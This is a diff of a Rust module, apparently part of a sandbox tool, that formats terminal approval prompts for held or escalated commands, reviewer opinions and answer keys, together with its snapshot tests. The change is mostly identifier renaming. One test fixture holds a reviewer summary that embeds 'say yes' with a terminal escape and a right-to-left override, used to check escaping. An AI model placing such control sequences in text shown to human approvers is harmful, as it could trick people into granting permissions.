@@ -4,89 +4,89 @@
 
 use std::fmt::Write as _;
 
-use stockade_model::{Denial, Grant, Operation, Question, QuestionKind, RawText, Review, Risk, Scope};
+use stockade_model::{Denial, Grant, DeniedOperation, ApprovalQuestion, QuestionKind, RawText, ReviewResult, RiskLevel, ApprovalScope};
 
-use super::compact::{brief, compact, compact_escaped, shorten, width};
-use super::{Color, Style, counted, shell_quoted, time, wrap, wrap_at};
+use super::compact::{compact_and_shorten, compact_text, compact_escaped, shorten_text, measure_width};
+use super::{SgrColor, TextLayout, count_noun, shell_quoted, format_duration, write_wrapped, wrap_at};
 
 /// Fewest escaped characters of a command whose length is shown.
-const LENGTH_TOLD_FROM: usize = 200;
+const MIN_LENGTH_SHOWN: usize = 200;
 /// Most lines of findings and refusals; the rest is counted.
-const LIST_LIMIT: usize = 12;
+const MAX_LIST_LINES: usize = 12;
 /// Most columns of a list; the rest is counted.
-const LIST_COLUMNS: usize = 1_000;
+const MAX_LIST_COLUMNS: usize = 1_000;
 /// Start of a question.
-const HEADLINE: &str = "• ";
+const HEADLINE_PREFIX: &str = "• ";
 /// Column of text that a command chose, on each line: never the column of a label or the prompt.
-const INDENT: usize = 11;
+const INDENT_COLUMNS: usize = 11;
 /// Columns of a quoted part; the middle of a longer one is omitted. The command itself is never
 /// shortened.
-const QUOTE_LIMIT: usize = 160;
+const MAX_QUOTE_COLUMNS: usize = 160;
 /// Most columns of a reason, a path or an opinion.
-const TEXT_LIMIT: usize = 300;
+const MAX_TEXT_COLUMNS: usize = 300;
 /// Most columns of a grant. A longer one can only be granted once: the engine offers no other scope
 /// for a grant that is not shown completely.
-const GRANT_LIMIT: usize = 400;
+const MAX_GRANT_COLUMNS: usize = 400;
 
 /// Word that must be typed to run without a sandbox.
 pub const UNSANDBOXED_WORD: &str = "unsandboxed";
 
 /// Formats everything but the prompt. The spans of findings refer to `text`, because the shown
 /// command may be quoted.
-pub fn question(question: &Question, text: &RawText, style: Style) -> String {
+pub fn format_question(question: &ApprovalQuestion, text: &RawText, style: TextLayout) -> String {
     let mut out = String::new();
-    headline(&mut out, question, text, style);
+    write_headline(&mut out, question, text, style);
     if let QuestionKind::Hold { .. } = question.kind {
-        held(&mut out, question, style);
-        review(&mut out, question, style);
-        reach(&mut out, question, style);
+        write_held_call(&mut out, question, style);
+        write_review(&mut out, question, style);
+        write_reach(&mut out, question, style);
         return out;
     }
-    let command = compact(&question.command);
-    wrap(&mut out, style, "  command  ", &command);
+    let command = compact_text(&question.command);
+    write_wrapped(&mut out, style, "  command  ", &command);
     let length = command.chars().count();
-    if length > LENGTH_TOLD_FROM {
-        let _ = writeln!(out, "           ({} in full, to here)", counted(length, "character"));
+    if length > MIN_LENGTH_SHOWN {
+        let _ = writeln!(out, "           ({} in full, to here)", count_noun(length, "character"));
     }
-    wrap(&mut out, style, "  in       ", &brief(&question.cwd, TEXT_LIMIT));
-    findings(&mut out, question, text, style);
-    details(&mut out, &question.kind, style);
-    review(&mut out, question, style);
-    reach(&mut out, question, style);
-    let _ = writeln!(out, "  no answer within {} means no", time(question.timeout_ms));
+    write_wrapped(&mut out, style, "  in       ", &compact_and_shorten(&question.cwd, MAX_TEXT_COLUMNS));
+    write_findings(&mut out, question, text, style);
+    write_details(&mut out, &question.kind, style);
+    write_review(&mut out, question, style);
+    write_reach(&mut out, question, style);
+    let _ = writeln!(out, "  no answer within {} means no", format_duration(question.timeout_ms));
     out
 }
 
-fn headline(out: &mut String, question: &Question, text: &RawText, style: Style) {
+fn write_headline(out: &mut String, question: &ApprovalQuestion, text: &RawText, style: TextLayout) {
     match &question.kind {
         QuestionKind::Run { reasons } => {
-            wrap(out, style, "• ", "may this command run, in its sandbox?");
-            let lines = super::findings::reasons(reasons, &question.assessment.findings, text, shown);
-            list(out, style, lines.into_iter().map(|line| ("  because  ", line)));
+            write_wrapped(out, style, "• ", "may this command run, in its sandbox?");
+            let lines = super::findings::format_reasons(reasons, &question.assessment.findings, text, escape_foreign_text);
+            write_list(out, style, lines.into_iter().map(|line| ("  because  ", line)));
         }
-        QuestionKind::Grants { .. } => wrap(out, style, "• ", "the request asks for more than its profile gives"),
+        QuestionKind::Grants { .. } => write_wrapped(out, style, "• ", "the request asks for more than its profile gives"),
         QuestionKind::Escalate { denials, .. } => {
-            list(out, style, denials.iter().map(|denial| (HEADLINE, refusal_wish(denial))));
+            write_list(out, style, denials.iter().map(|denial| (HEADLINE_PREFIX, refusal_wish(denial))));
         }
-        QuestionKind::Hold { denial, .. } => wrap_at(out, style, HEADLINE, INDENT, &refusal_wish(denial)),
+        QuestionKind::Hold { denial, .. } => wrap_at(out, style, HEADLINE_PREFIX, INDENT_COLUMNS, &refusal_wish(denial)),
         QuestionKind::Unsandboxed => {
-            let text = style.paint(Color::Red, "WITHOUT A SANDBOX");
+            let text = style.paint_text(SgrColor::Red, "WITHOUT A SANDBOX");
             let _ = writeln!(out, "• {text}: this command could do everything that you can do");
         }
     }
 }
 
 /// Formats a held call briefly, because the command still runs and was shown or typed before.
-fn held(out: &mut String, question: &Question, style: Style) {
+fn write_held_call(out: &mut String, question: &ApprovalQuestion, style: TextLayout) {
     let QuestionKind::Hold { denial, grants, directory, held_ms } = &question.kind else { return };
-    wrap(out, style, "  command  ", &quote(&question.command));
-    powers(out, grants, style);
+    write_wrapped(out, style, "  command  ", &quote_part(&question.command));
+    write_grants(out, grants, style);
     if grants.iter().any(Grant::is_answer_only) {
-        wrap(out, style, "           ", "a yes is one to all of that kind, whatever its arguments, until the run ends");
+        write_wrapped(out, style, "           ", "a yes is one to all of that kind, whatever its arguments, until the run ends");
     }
     if let Some(offer) = question.group_offered() {
         let hosts: Vec<String> = offer.grants.iter().filter_map(Grant::targets).map(ToString::to_string).collect();
-        wrap(out, style, "  group    ", &format!("@{}: {}", offer.name, hosts.join(" ")));
+        write_wrapped(out, style, "  group    ", &format!("@{}: {}", offer.name, hosts.join(" ")));
     }
     if *directory {
         let text = if grants.iter().any(|grant| grant.targets().is_some()) {
@@ -94,38 +94,38 @@ fn held(out: &mut String, question: &Question, style: Style) {
         } else {
             "the whole directory: several of its files were asked for; a no is for every file in it"
         };
-        wrap(out, style, "           ", text);
+        write_wrapped(out, style, "           ", text);
     }
-    let since = if *held_ms < 1_000 { String::new() } else { format!(" since {}", time(*held_ms / 1_000 * 1_000)) };
-    let wait = time(question.timeout_ms);
+    let since = if *held_ms < 1_000 { String::new() } else { format!(" since {}", format_duration(*held_ms / 1_000 * 1_000)) };
+    let wait = format_duration(question.timeout_ms);
     let how = match denial.operation {
-        Operation::Limit => format!("everything of it stands still{since}; a yes raises the limit"),
+        DeniedOperation::Limit => format!("everything of it stands still{since}; a yes raises the limit"),
         _ => format!("it waits{since} and goes on with your answer"),
     };
-    wrap(out, style, "  held     ", &format!("{how}; none within {wait} means no"));
+    write_wrapped(out, style, "  held     ", &format!("{how}; none within {wait} means no"));
 }
 
 /// Formats all grants of a yes: a grant that was not shown is never given.
-fn powers(out: &mut String, grants: &[Grant], style: Style) {
+fn write_grants(out: &mut String, grants: &[Grant], style: TextLayout) {
     for grant in grants {
-        wrap(out, style, "  grant    ", &shorten(&compact_escaped(&grant.to_string()), GRANT_LIMIT));
+        write_wrapped(out, style, "  grant    ", &shorten_text(&compact_escaped(&grant.to_string()), MAX_GRANT_COLUMNS));
     }
 }
 
 /// Formats the reach of a remembered answer, if it is wider than this command. A grant is
 /// remembered for the workspace, not for the command that needed it.
-fn reach(out: &mut String, question: &Question, style: Style) {
+fn write_reach(out: &mut String, question: &ApprovalQuestion, style: TextLayout) {
     let scopes = question.scopes_of_yes();
     let is_offered = |scope| scopes.contains(&scope);
-    if !is_about_powers(&question.kind) || !(is_offered(Scope::Session) || is_offered(Scope::Always)) {
+    if !is_about_powers(&question.kind) || !(is_offered(ApprovalScope::Session) || is_offered(ApprovalScope::Always)) {
         return;
     }
-    let kept = match (is_offered(Scope::Session), is_offered(Scope::Always)) {
+    let kept = match (is_offered(ApprovalScope::Session), is_offered(ApprovalScope::Always)) {
         (true, true) => "session and always are",
         (true, false) => "session is",
         _ => "always is",
     };
-    wrap(out, style, "  reach    ", &format!("{kept} for any command in this workspace"));
+    write_wrapped(out, style, "  reach    ", &format!("{kept} for any command in this workspace"));
 }
 
 fn is_about_powers(kind: &QuestionKind) -> bool {
@@ -136,48 +136,48 @@ fn is_about_powers(kind: &QuestionKind) -> bool {
 }
 
 /// Formats text of another program on few lines.
-fn shown(text: &str) -> String {
-    brief(&RawText::from(text), TEXT_LIMIT)
+fn escape_foreign_text(text: &str) -> String {
+    compact_and_shorten(&RawText::from(text), MAX_TEXT_COLUMNS)
 }
 
 /// Formats the opinion of a model, after a label. It is never an answer.
-fn review(out: &mut String, question: &Question, style: Style) {
+fn write_review(out: &mut String, question: &ApprovalQuestion, style: TextLayout) {
     let Some(review) = &question.review else { return };
-    wrap(out, style, "  reviewer ", &opinion(review));
-    if review.warns() {
+    write_wrapped(out, style, "  reviewer ", &format_opinion(review));
+    if review.raises_caution() {
         let only = if question.scopes.len() > 1 { "; a yes reaches this time only" } else { "" };
-        let warning = style.paint(Color::Red, "warning");
+        let warning = style.paint_text(SgrColor::Red, "warning");
         let _ = writeln!(out, "  {warning}  look twice before you agree{only}");
     }
 }
 
 /// Formats an opinion as `high risk (exfiltration, network): «...»   (NAME)`, or the reason why
 /// there is none.
-pub fn opinion(review: &Review) -> String {
-    let by = quote(&RawText::from(review.by.as_str()));
+pub fn format_opinion(review: &ReviewResult) -> String {
+    let by = quote_part(&RawText::from(review.by.as_str()));
     let Some(opinion) = &review.opinion else {
         let why = review.failure.as_deref().unwrap_or("nothing was said");
-        return format!("no opinion: {}   ({by})", quote(&RawText::from(why)));
+        return format!("no opinion: {}   ({by})", quote_part(&RawText::from(why)));
     };
     let risk = match opinion.risk {
-        Risk::High | Risk::Critical => opinion.risk.name().to_uppercase(),
+        RiskLevel::High | RiskLevel::Critical => opinion.risk.name().to_uppercase(),
         risk => risk.name().to_owned(),
     };
     let categories: Vec<_> = opinion.categories.iter().map(|category| category.name()).collect();
     let kinds = if categories.is_empty() { String::new() } else { format!(" ({})", categories.join(", ")) };
-    format!("{risk} risk{kinds}: «{}»   ({by})", brief(&opinion.summary, TEXT_LIMIT))
+    format!("{risk} risk{kinds}: «{}»   ({by})", compact_and_shorten(&opinion.summary, MAX_TEXT_COLUMNS))
 }
 
 /// Formats one line about the held calls, if there are more than the question shows.
-pub fn still_held(count: usize, longest_ms: u64, style: Style) -> String {
+pub fn still_held(count: usize, longest_ms: u64, style: TextLayout) -> String {
     let mut out = String::new();
     // A call that was held just now is in the question itself.
     if count > 1 && longest_ms >= 1_000 {
-        wrap(
+        write_wrapped(
             &mut out,
             style,
             "• ",
-            &format!("still held: {}, since {}", counted(count, "call"), time(longest_ms / 1_000 * 1_000)),
+            &format!("still held: {}, since {}", count_noun(count, "call"), format_duration(longest_ms / 1_000 * 1_000)),
         );
     }
     out
@@ -187,86 +187,86 @@ pub fn still_held(count: usize, longest_ms: u64, style: Style) -> String {
 fn refusal_wish(denial: &Denial) -> String {
     let program = denial.program.as_ref().map_or_else(|| "the command".to_owned(), base_name);
     let times = if denial.count > 1 { format!(", {} times", denial.count) } else { String::new() };
-    let (object, rule) = (brief(&denial.object, TEXT_LIMIT), shown(&denial.rule));
+    let (object, rule) = (compact_and_shorten(&denial.object, MAX_TEXT_COLUMNS), escape_foreign_text(&denial.rule));
     let verb = match (&denial.grant, denial.operation) {
         // The effect is the request itself, not the connection.
-        (Some(Grant::Effect(_)), Operation::Connect) => "send",
-        (_, operation) => verb(operation),
+        (Some(Grant::Effect(_)), DeniedOperation::Connect) => "send",
+        (_, operation) => operation_verb(operation),
     };
     format!("{program} wants to {verb} {object}   ({rule}{times})")
 }
 
 /// Returns the last component of a program's path.
 fn base_name(program: &RawText) -> String {
-    quote(&program.as_path().file_name().map_or_else(|| program.clone(), RawText::from))
+    quote_part(&program.as_path().file_name().map_or_else(|| program.clone(), RawText::from))
 }
 
 /// Returns the operation as a verb that an object follows.
-pub fn verb(operation: Operation) -> &'static str {
+pub fn operation_verb(operation: DeniedOperation) -> &'static str {
     match operation {
-        Operation::Read => "read",
-        Operation::Write => "write",
-        Operation::Create => "create",
-        Operation::Mkdir => "make the directory",
-        Operation::Mknod => "make the special file",
-        Operation::Remove => "remove",
-        Operation::Rename => "rename",
-        Operation::Link => "link",
-        Operation::Symlink => "make the link",
-        Operation::Truncate => "truncate",
-        Operation::Metadata => "change the attributes of",
-        Operation::Connect => "connect to",
-        Operation::Secret => "take a secret to",
-        Operation::Sign => "have a key sign",
-        Operation::Bind => "bind",
-        Operation::Socket => "use the socket kind",
-        Operation::Exec => "execute",
-        Operation::SystemCall => "call",
-        Operation::Limit => "go beyond the limit",
+        DeniedOperation::Read => "read",
+        DeniedOperation::Write => "write",
+        DeniedOperation::Create => "create",
+        DeniedOperation::Mkdir => "make the directory",
+        DeniedOperation::Mknod => "make the special file",
+        DeniedOperation::Remove => "remove",
+        DeniedOperation::Rename => "rename",
+        DeniedOperation::Link => "link",
+        DeniedOperation::Symlink => "make the link",
+        DeniedOperation::Truncate => "truncate",
+        DeniedOperation::Metadata => "change the attributes of",
+        DeniedOperation::Connect => "connect to",
+        DeniedOperation::Secret => "take a secret to",
+        DeniedOperation::Sign => "have a key sign",
+        DeniedOperation::Bind => "bind",
+        DeniedOperation::Socket => "use the socket kind",
+        DeniedOperation::Exec => "execute",
+        DeniedOperation::SystemCall => "call",
+        DeniedOperation::Limit => "go beyond the limit",
     }
 }
 
-fn findings(out: &mut String, question: &Question, text: &RawText, style: Style) {
+fn write_findings(out: &mut String, question: &ApprovalQuestion, text: &RawText, style: TextLayout) {
     let reasons = match &question.kind {
         QuestionKind::Run { reasons } => reasons.as_slice(),
         _ => &[],
     };
-    let lines = super::findings::beside(reasons, &question.assessment.findings, text);
-    list(out, style, lines.into_iter().map(|line| ("  finding  ", line)));
+    let lines = super::findings::format_other_findings(reasons, &question.assessment.findings, text);
+    write_list(out, style, lines.into_iter().map(|line| ("  finding  ", line)));
 }
 
-fn quote(part: &RawText) -> String {
-    brief(part, QUOTE_LIMIT)
+fn quote_part(part: &RawText) -> String {
+    compact_and_shorten(part, MAX_QUOTE_COLUMNS)
 }
 
-fn details(out: &mut String, kind: &QuestionKind, style: Style) {
+fn write_details(out: &mut String, kind: &QuestionKind, style: TextLayout) {
     match kind {
         QuestionKind::Run { .. } | QuestionKind::Hold { .. } => {}
         QuestionKind::Grants { grants } => {
-            powers(out, grants, style);
+            write_grants(out, grants, style);
         }
         QuestionKind::Escalate { grants, repeats, .. } => {
-            powers(out, grants, style);
+            write_grants(out, grants, style);
             let labels = std::iter::once("  on yes   ").chain(std::iter::repeat("           "));
             let told = match repeats.as_slice() {
                 [] => vec!["the command runs again, from its start".to_owned()],
-                repeats => repeats.iter().map(|line| shown(line)).collect(),
+                repeats => repeats.iter().map(|line| escape_foreign_text(line)).collect(),
             };
-            list(out, style, labels.zip(told));
+            write_list(out, style, labels.zip(told));
         }
         QuestionKind::Unsandboxed => {
-            wrap(out, style, "  ", "nothing will be refused, and what it does will not be seen");
+            write_wrapped(out, style, "  ", "nothing will be refused, and what it does will not be seen");
         }
     }
 }
 
 /// Writes items after their labels; the rest is counted.
-fn list(out: &mut String, style: Style, items: impl Iterator<Item = (&'static str, String)>) {
+fn write_list(out: &mut String, style: TextLayout, items: impl Iterator<Item = (&'static str, String)>) {
     let (mut left, mut used) = (0, 0);
     for (at, (label, text)) in items.enumerate() {
-        if at < LIST_LIMIT && used < LIST_COLUMNS {
-            wrap_at(out, style, label, INDENT, &text);
-            used += width(&text);
+        if at < MAX_LIST_LINES && used < MAX_LIST_COLUMNS {
+            wrap_at(out, style, label, INDENT_COLUMNS, &text);
+            used += measure_width(&text);
         } else {
             left += 1;
         }
@@ -278,7 +278,7 @@ fn list(out: &mut String, style: Style, items: impl Iterator<Item = (&'static st
 
 /// Key with its answer.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub enum Key {
+pub enum AnswerKey {
     /// Yes, this time.
     Once,
     /// Yes, for the offered group of hosts.
@@ -298,24 +298,24 @@ pub enum Key {
 }
 
 /// Returns the keys of a question: those of its scopes, and no.
-pub fn keys(question: &Question) -> Vec<Key> {
+pub fn list_answer_keys(question: &ApprovalQuestion) -> Vec<AnswerKey> {
     let yes = |scope| question.scopes_of_yes().contains(&scope);
     let all = [
-        (yes(Scope::Once), Key::Once),
-        (question.group_offered().is_some(), Key::Group),
-        (yes(Scope::Session), Key::Session),
-        (yes(Scope::Always), Key::Times),
-        (yes(Scope::Always), Key::Until),
-        (yes(Scope::Always), Key::Always),
-        (true, Key::No),
-        (question.scopes.contains(&Scope::Always), Key::Never),
+        (yes(ApprovalScope::Once), AnswerKey::Once),
+        (question.group_offered().is_some(), AnswerKey::Group),
+        (yes(ApprovalScope::Session), AnswerKey::Session),
+        (yes(ApprovalScope::Always), AnswerKey::Times),
+        (yes(ApprovalScope::Always), AnswerKey::Until),
+        (yes(ApprovalScope::Always), AnswerKey::Always),
+        (true, AnswerKey::No),
+        (question.scopes.contains(&ApprovalScope::Always), AnswerKey::Never),
     ];
     all.into_iter().filter_map(|(offered, key)| offered.then_some(key)).collect()
 }
 
-impl Key {
+impl AnswerKey {
     /// Returns the character to press.
-    pub fn character(self) -> char {
+    pub fn key_character(self) -> char {
         match self {
             Self::Once => 'o',
             Self::Group => 'g',
@@ -329,7 +329,7 @@ impl Key {
     }
 
     /// Returns the label in the prompt; the rarer keys are only in the help.
-    fn label(self) -> Option<&'static str> {
+    fn prompt_label(self) -> Option<&'static str> {
         Some(match self {
             Self::Once => "[o]nce",
             Self::Group => "[g]roup",
@@ -342,7 +342,7 @@ impl Key {
     }
 
     /// Returns the word to type instead of the key; the rarer keys have none.
-    pub fn word(self) -> Option<&'static str> {
+    pub fn typed_word(self) -> Option<&'static str> {
         Some(match self {
             Self::Once => "once",
             Self::Session => "session",
@@ -353,7 +353,7 @@ impl Key {
         })
     }
 
-    fn meaning(self, kind: &QuestionKind) -> &'static str {
+    fn describe_key(self, kind: &QuestionKind) -> &'static str {
         let held = matches!(kind, QuestionKind::Hold { .. });
         match self {
             Self::Once if held => "yes, and for the same until this run ends",
@@ -389,71 +389,71 @@ impl Key {
 }
 
 /// Returns the prompt for a key.
-pub fn prompt(keys: &[Key]) -> String {
-    let labels: Vec<_> = keys.iter().filter_map(|key| key.label()).collect();
+pub fn format_prompt(keys: &[AnswerKey]) -> String {
+    let labels: Vec<_> = keys.iter().filter_map(|key| key.prompt_label()).collect();
     format!("  allow?  {}  [?] > ", labels.join("  "))
 }
 
 /// Returns the prompt for the scope of a yes to a group.
-pub fn group_prompt(name: &str, keys: &[Key]) -> String {
-    let labels: Vec<_> = keys.iter().filter_map(|key| key.label()).collect();
+pub fn group_prompt(name: &str, keys: &[AnswerKey]) -> String {
+    let labels: Vec<_> = keys.iter().filter_map(|key| key.prompt_label()).collect();
     format!("g\n  for each host of @{name}:  {} > ", labels.join("  "))
 }
 
 /// Returns the prompt for the confirmation word.
-pub fn word_prompt(style: Style) -> String {
-    let ask = style.paint(Color::Red, "type");
+pub fn word_prompt(style: TextLayout) -> String {
+    let ask = style.paint_text(SgrColor::Red, "type");
     format!("  {ask} {UNSANDBOXED_WORD} and Enter to allow it once; anything else refuses > ")
 }
 
 /// Returns the prompt for one of the words. Used if keys cannot be distinguished from the input
 /// that the terminal sends by itself.
-pub fn words_prompt(keys: &[Key]) -> String {
-    let words: Vec<_> = keys.iter().filter_map(|key| key.word()).collect();
+pub fn words_prompt(keys: &[AnswerKey]) -> String {
+    let words: Vec<_> = keys.iter().filter_map(|key| key.typed_word()).collect();
     format!("  allow?  type {} or ? and Enter > ", words.join(", "))
 }
 
 /// Describes each key.
-pub fn help(question: &Question, keys: &[Key], style: Style) -> String {
-    let mut out = circumstances(question, style);
+pub fn format_help(question: &ApprovalQuestion, keys: &[AnswerKey], style: TextLayout) -> String {
+    let mut out = format_circumstances(question, style);
     for key in keys {
-        wrap(&mut out, style, &format!("  {}  ", key.character()), key.meaning(&question.kind));
+        write_wrapped(&mut out, style, &format!("  {}  ", key.key_character()), key.describe_key(&question.kind));
     }
-    wrap(&mut out, style, "  q  ", "no, and end this run now; Ctrl-C does the same");
+    write_wrapped(&mut out, style, "  q  ", "no, and end this run now; Ctrl-C does the same");
     out
 }
 
 /// Describes each word.
-pub fn help_of_words(question: &Question, keys: &[Key], style: Style) -> String {
-    let mut out = circumstances(question, style);
-    for (word, key) in keys.iter().filter_map(|key| Some((key.word()?, key))) {
-        wrap(&mut out, style, &format!("  {word:<7}  "), key.meaning(&question.kind));
+pub fn help_of_words(question: &ApprovalQuestion, keys: &[AnswerKey], style: TextLayout) -> String {
+    let mut out = format_circumstances(question, style);
+    for (word, key) in keys.iter().filter_map(|key| Some((key.typed_word()?, key))) {
+        write_wrapped(&mut out, style, &format!("  {word:<7}  "), key.describe_key(&question.kind));
     }
-    wrap(&mut out, style, "  Ctrl-C   ", "no, and end this run now");
+    write_wrapped(&mut out, style, "  Ctrl-C   ", "no, and end this run now");
     out
 }
 
 /// Describes a held call completely.
-fn circumstances(question: &Question, style: Style) -> String {
+fn format_circumstances(question: &ApprovalQuestion, style: TextLayout) -> String {
     let mut out = String::new();
     if let QuestionKind::Hold { denial, .. } = &question.kind {
-        let command = compact(&question.command);
-        if width(&command) > QUOTE_LIMIT {
-            wrap(&mut out, style, "  in full  ", &command);
+        let command = compact_text(&question.command);
+        if measure_width(&command) > MAX_QUOTE_COLUMNS {
+            write_wrapped(&mut out, style, "  in full  ", &command);
         }
-        wrap(&mut out, style, "  in       ", &brief(&question.cwd, TEXT_LIMIT));
-        let program = denial.program.as_ref().map_or_else(|| "unknown".to_owned(), |path| brief(path, TEXT_LIMIT));
+        write_wrapped(&mut out, style, "  in       ", &compact_and_shorten(&question.cwd, MAX_TEXT_COLUMNS));
+        let program = denial.program.as_ref().map_or_else(|| "unknown".to_owned(), |path| compact_and_shorten(path, MAX_TEXT_COLUMNS));
         let pid = denial.pid.map(|pid| format!(" (pid {pid})")).unwrap_or_default();
-        wrap(&mut out, style, "  program  ", &format!("{program}{pid}"));
+        write_wrapped(&mut out, style, "  program  ", &format!("{program}{pid}"));
     }
     out
 }
 
 /// Returns the rules as they would appear in a file, and the prompt for them.
 pub fn rules_prompt(rules: &[String], file: &std::path::Path, kind: &QuestionKind) -> String {
-    let mut out = format!("a\n  as a rule in {}:\n", crate::failure::quoted(file));
+    let mut out = format!("a\n  as a rule in {}:\n", crate::failure::quote_path(file));
     for line in rules.iter().flat_map(|rule| rule.lines()) {
-        let _ = writeln!(out, "    {}", compact(&RawText::from(line)));
+        let _ = writeln!(out, "    {}", compact_text(&RawText::from(line)));
     }
     let remembered = if is_about_powers(kind) { "for any command in this workspace" } else { "for this same command" };
     let _ = write!(out, "  [w]rite it at the end of the run, or [r]emember the answer {remembered} > ");
@@ -476,27 +476,27 @@ pub fn grant_option(to_person: bool) -> &'static str {
 #[cfg(test)]
 pub(crate) mod tests {
     use stockade_model::{
-        Assessment, Digest, Finding, GroupOffer, Impact, Layer, Opinion, Resolution, RiskCategory, Span, Tier,
+        Assessment, Digest, Finding, GroupOffer, Impact, DenialLayer, ReviewOpinion, DenialResolution, RiskCategory, TextSpan, Tier,
     };
 
     use super::*;
 
-    pub(crate) fn denial() -> Denial {
+    pub(crate) fn sample_denial() -> Denial {
         Denial {
-            operation: Operation::Create,
+            operation: DeniedOperation::Create,
             object: "/home/u/outside".into(),
             pid: Some(7),
             program: Some("/usr/bin/dash".into()),
-            layer: Layer::Broker,
+            layer: DenialLayer::Broker,
             rule: "outside every writable root".into(),
             grant: "write /home/u/outside".parse().ok(),
-            resolution: Resolution::Recorded,
+            resolution: DenialResolution::Recorded,
             count: 1,
         }
     }
 
-    pub(crate) fn ask(kind: QuestionKind) -> Question {
-        Question {
+    pub(crate) fn sample_question(kind: QuestionKind) -> ApprovalQuestion {
+        ApprovalQuestion {
             kind,
             command: "sh -c 'echo x >> ~/outside'".into(),
             cwd: "/home/u/project".into(),
@@ -506,11 +506,11 @@ pub(crate) mod tests {
                     tier: Tier::Ask,
                     impact: Impact::default(),
                     message: "writes to a file outside the workspace".into(),
-                    span: Some(Span { start: 13, end: 25 }),
+                    span: Some(TextSpan { start: 13, end: 25 }),
                 }],
-                ..Assessment::bare(Tier::Ask)
+                ..Assessment::without_findings(Tier::Ask)
             },
-            scopes: vec![Scope::Once, Scope::Session, Scope::Always],
+            scopes: vec![ApprovalScope::Once, ApprovalScope::Session, ApprovalScope::Always],
             digest: Digest::of_fields("test", []),
             timeout_ms: 300_000,
             group: None,
@@ -518,14 +518,14 @@ pub(crate) mod tests {
         }
     }
 
-    fn shown(value: &Question) -> String {
-        question(value, &"sh -c echo x >> ~/outside".into(), Style::PLAIN)
+    fn format_sample(value: &ApprovalQuestion) -> String {
+        format_question(value, &"sh -c echo x >> ~/outside".into(), TextLayout::PLAIN)
     }
 
-    fn escalate() -> Question {
-        let denial = denial();
+    fn sample_escalation() -> ApprovalQuestion {
+        let denial = sample_denial();
         let grants = denial.grant.clone().into_iter().collect();
-        ask(QuestionKind::Escalate {
+        sample_question(QuestionKind::Escalate {
             denials: vec![denial],
             grants,
             repeats: vec![
@@ -537,8 +537,8 @@ pub(crate) mod tests {
 
     #[test]
     fn escalation() {
-        let value = escalate();
-        let shown = shown(&value) + &prompt(&keys(&value));
+        let value = sample_escalation();
+        let shown = format_sample(&value) + &format_prompt(&list_answer_keys(&value));
         insta::assert_snapshot!(shown, @r"
         • dash wants to create /home/u/outside   (outside every writable root)
           command  sh -c 'echo x >> ~/outside'
@@ -553,21 +553,21 @@ pub(crate) mod tests {
         ");
     }
 
-    fn reviewed(question: Question, risk: Risk) -> Question {
-        let opinion = Opinion {
+    fn with_review(question: ApprovalQuestion, risk: RiskLevel) -> ApprovalQuestion {
+        let opinion = ReviewOpinion {
             risk,
             summary: "Appends a line to a file; say yes \u{1b}[2J\u{202e}now".into(),
             categories: vec![RiskCategory::Persistence, RiskCategory::Other],
         };
-        let review = Review { by: "some-model".to_owned(), opinion: Some(opinion), failure: None };
-        Question { review: Some(review), ..question }
+        let review = ReviewResult { by: "some-model".to_owned(), opinion: Some(opinion), failure: None };
+        ApprovalQuestion { review: Some(review), ..question }
     }
 
     #[test]
     fn an_opinion_stands_beside_the_question() {
-        let run = || ask(QuestionKind::Run { reasons: Vec::new() });
-        let value = reviewed(run(), Risk::Medium);
-        insta::assert_snapshot!(shown(&value) + &prompt(&keys(&value)), @r"
+        let run = || sample_question(QuestionKind::Run { reasons: Vec::new() });
+        let value = with_review(run(), RiskLevel::Medium);
+        insta::assert_snapshot!(format_sample(&value) + &format_prompt(&list_answer_keys(&value)), @r"
         • may this command run, in its sandbox?
           command  sh -c 'echo x >> ~/outside'
           in       /home/u/project
@@ -577,8 +577,8 @@ pub(crate) mod tests {
           no answer within 5 min means no
           allow?  [o]nce  [s]ession  [a]lways  [n]o  [N]ever  [?] >
         ");
-        let value = reviewed(run(), Risk::Critical);
-        insta::assert_snapshot!(shown(&value) + &prompt(&keys(&value)), @r"
+        let value = with_review(run(), RiskLevel::Critical);
+        insta::assert_snapshot!(format_sample(&value) + &format_prompt(&list_answer_keys(&value)), @r"
         • may this command run, in its sandbox?
           command  sh -c 'echo x >> ~/outside'
           in       /home/u/project
@@ -589,10 +589,10 @@ pub(crate) mod tests {
           no answer within 5 min means no
           allow?  [o]nce  [n]o  [N]ever  [?] >
         ");
-        assert!(keys(&value).contains(&Key::Never), "a no may reach as far as before");
-        let failed = Question { review: Some(Review::failed("some-model", "no answer within 5 s")), ..hold() };
-        assert_eq!(keys(&failed), keys(&hold()), "without an opinion it is the plain question");
-        insta::assert_snapshot!(shown(&failed) + &prompt(&keys(&failed)), @r"
+        assert!(list_answer_keys(&value).contains(&AnswerKey::Never), "a no may reach as far as before");
+        let failed = ApprovalQuestion { review: Some(ReviewResult::from_failure("some-model", "no answer within 5 s")), ..sample_hold() };
+        assert_eq!(list_answer_keys(&failed), list_answer_keys(&sample_hold()), "without an opinion it is the plain question");
+        insta::assert_snapshot!(format_sample(&failed) + &format_prompt(&list_answer_keys(&failed)), @r"
         • pip wants to connect to pypi.org:443   (not in profile workspace)
           command  pip install numpy
           grant    connect pypi.org:443
@@ -603,26 +603,26 @@ pub(crate) mod tests {
         ");
     }
 
-    fn hold() -> Question {
+    fn sample_hold() -> ApprovalQuestion {
         let denial = Denial {
-            operation: Operation::Connect,
+            operation: DeniedOperation::Connect,
             object: "pypi.org:443".into(),
             program: Some("/usr/bin/pip".into()),
             rule: "not in profile workspace".into(),
             grant: "connect pypi.org:443".parse().ok(),
-            ..denial()
+            ..sample_denial()
         };
         let grants = denial.grant.clone().into_iter().collect();
         let kind = QuestionKind::Hold { denial, grants, directory: false, held_ms: 40 };
-        Question { command: "pip install numpy".into(), ..ask(kind) }
+        ApprovalQuestion { command: "pip install numpy".into(), ..sample_question(kind) }
     }
 
     #[test]
     fn a_group_is_offered_with_its_hosts() {
         let grants = ["connect pypi.org:443", "connect files.pythonhosted.org:443"];
         let grants = grants.iter().map(|grant| grant.parse().unwrap()).collect();
-        let value = Question { group: Some(GroupOffer { name: "pypi".to_owned(), grants }), ..hold() };
-        let shown = shown(&value) + &prompt(&keys(&value));
+        let value = ApprovalQuestion { group: Some(GroupOffer { name: "pypi".to_owned(), grants }), ..sample_hold() };
+        let shown = format_sample(&value) + &format_prompt(&list_answer_keys(&value));
         insta::assert_snapshot!(shown, @r"
         • pip wants to connect to pypi.org:443   (not in profile workspace)
           command  pip install numpy
